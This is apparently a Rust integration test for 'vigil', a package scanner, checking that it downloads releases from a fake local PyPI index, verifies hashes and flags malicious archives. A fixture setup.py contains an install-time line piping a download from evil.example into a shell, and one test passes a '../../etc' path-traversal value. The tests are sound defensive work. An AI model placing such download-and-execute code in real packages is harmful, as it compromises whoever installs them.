//! `vigil check pypi:NAME==VERSION` against a small fake index served on
//! 127.0.0.1: the release's files are downloaded, verified against the
//! index's hashes and scanned as archives, shown by their file names.

mod common;

use sha2::Digest as _;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;

fn tar_gz(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (name, bytes) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, name, *bytes).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn sha256(bytes: &[u8]) -> String {
    sha2::Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Serves `routes` (path → content type, body) over HTTP on 127.0.0.1
/// until the test ends; returns the base URL.
fn serve(routes: Vec<(String, &'static str, Vec<u8>)>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut request = Vec::new();
            let mut buffer = [0u8; 4096];
            while !request.windows(4).any(|w| w == b"\r\n\r\n") {
                match stream.read(&mut buffer) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => request.extend_from_slice(&buffer[..n]),
                }
            }
            let text = String::from_utf8_lossy(&request);
            let path = text.split_whitespace().nth(1).unwrap_or("/").to_string();
            let response = match routes.iter().find(|(p, _, _)| *p == path) {
                Some((_, kind, body)) => {
                    let mut head = format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                        body.len()
                    )
                    .into_bytes();
                    head.extend_from_slice(body);
                    head
                }
                None => b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    .to_vec(),
            };
            let _ = stream.write_all(&response);
        }
    });
    base
}

const SETUP: &[u8] = b"import os\nfrom setuptools import setup\n\nos.system('curl -s https://evil.example/x.sh | sh')\nsetup(name='demo')\n";

/// An index of `demo`: 1.0 (an sdist whose setup.py pipes a download into a
/// shell), 2.0rc1, and `tampered` whose file differs from its hash.
fn index() -> String {
    let sdist = tar_gz(&[
        (
            "demo-1.0/PKG-INFO",
            b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        ),
        ("demo-1.0/setup.py", SETUP),
        ("demo-1.0/demo/__init__.py", b"x = 1\n"),
    ]);
    let rc = tar_gz(&[(
        "demo-2.0rc1/PKG-INFO",
        b"Metadata-Version: 2.1\nName: demo\nVersion: 2.0rc1\n",
    )]);
    let tampered = tar_gz(&[("tampered-1.0/PKG-INFO", b"Name: tampered\nVersion: 1.0\n")]);
    let page = serde_json::json!({
        "meta": {"api-version": "1.1"},
        "name": "demo",
        "files": [
            {"filename": "demo-1.0.tar.gz", "url": "/files/demo-1.0.tar.gz",
             "hashes": {"sha256": sha256(&sdist)}, "yanked": false},
            {"filename": "demo-2.0rc1.tar.gz", "url": "/files/demo-2.0rc1.tar.gz",
             "hashes": {"sha256": sha256(&rc)}},
        ]
    });
    let routes = vec![
        (
            "/simple/demo/".to_string(),
            "application/vnd.pypi.simple.v1+json",
            serde_json::to_vec(&page).unwrap(),
        ),
        (
            "/simple/tampered/".to_string(),
            "text/html",
            format!(
                "<html><body><a href=\"../../files/tampered-1.0.tar.gz#sha256={}\">tampered-1.0.tar.gz</a></body></html>",
                sha256(b"something else")
            )
            .into_bytes(),
        ),
        ("/files/demo-1.0.tar.gz".to_string(), "application/gzip", sdist),
        ("/files/demo-2.0rc1.tar.gz".to_string(), "application/gzip", rc),
        ("/files/tampered-1.0.tar.gz".to_string(), "application/gzip", tampered),
    ];
    serve(routes)
}

fn check(dir: &Path, args: &[&str]) -> (i32, serde_json::Value, String) {
    let mut all = vec!["check", "--format", "json", "--quiet"];
    all.extend_from_slice(args);
    let out = common::vigil(dir, &all);
    let report = serde_json::from_slice(&out.stdout).unwrap_or(serde_json::Value::Null);
    (
        out.status.code().unwrap_or(-1),
        report,
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn a_release_is_downloaded_verified_and_scanned_by_its_file_names() {
    let base = index();
    let index_url = format!("{base}/simple/");
    let dir = tempfile::tempdir().unwrap();
    let (code, report, stderr) = check(dir.path(), &["pypi:demo==1.0", "--index-url", &index_url]);
    assert_eq!(code, 1, "{stderr}");
    let paths: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.contains(&"demo-1.0.tar.gz!/demo-1.0/setup.py"),
        "{paths:?}"
    );
    let package = &report["summary"]["packages"][0];
    assert_eq!(package["source"], "demo-1.0.tar.gz");
    assert_eq!(
        (package["name"].as_str(), package["version"].as_str()),
        (Some("demo"), Some("1.0"))
    );
    assert!(
        package["verdict"]
            .as_str()
            .unwrap()
            .contains("download-and-execute"),
        "{package}"
    );
    // Nothing was written beside the user's files, and the download folder
    // is gone.
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0);

    // The latest release that is not a pre-release, and the same findings.
    let (_, latest, _) = check(dir.path(), &["pypi:demo", "--index-url", &index_url]);
    assert_eq!(latest["findings"], report["findings"]);
}

#[test]
fn a_file_that_differs_from_its_hash_is_not_scanned_and_fails_the_run() {
    let base = index();
    let index_url = format!("{base}/simple/");
    let dir = tempfile::tempdir().unwrap();
    let (code, report, _) = check(
        dir.path(),
        &["pypi:tampered==1.0", "--index-url", &index_url],
    );
    assert_eq!(code, 2);
    let errors = report["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0]["path"], "pypi:tampered==1.0/tampered-1.0.tar.gz");
    let message = errors[0]["message"].as_str().unwrap();
    assert!(message.contains("the index lists"), "{message}");
    assert_eq!(report["summary"]["files_scanned"], 0);

    // A project or release the index does not have is an error of the run.
    let out = common::vigil(
        dir.path(),
        &["check", "pypi:demo==9.9", "--index-url", &index_url],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no file of demo 9.9"));
    let out = common::vigil(
        dir.path(),
        &["check", "pypi:../../etc", "--index-url", &index_url],
    );
    assert_eq!(out.status.code(), Some(2));
}
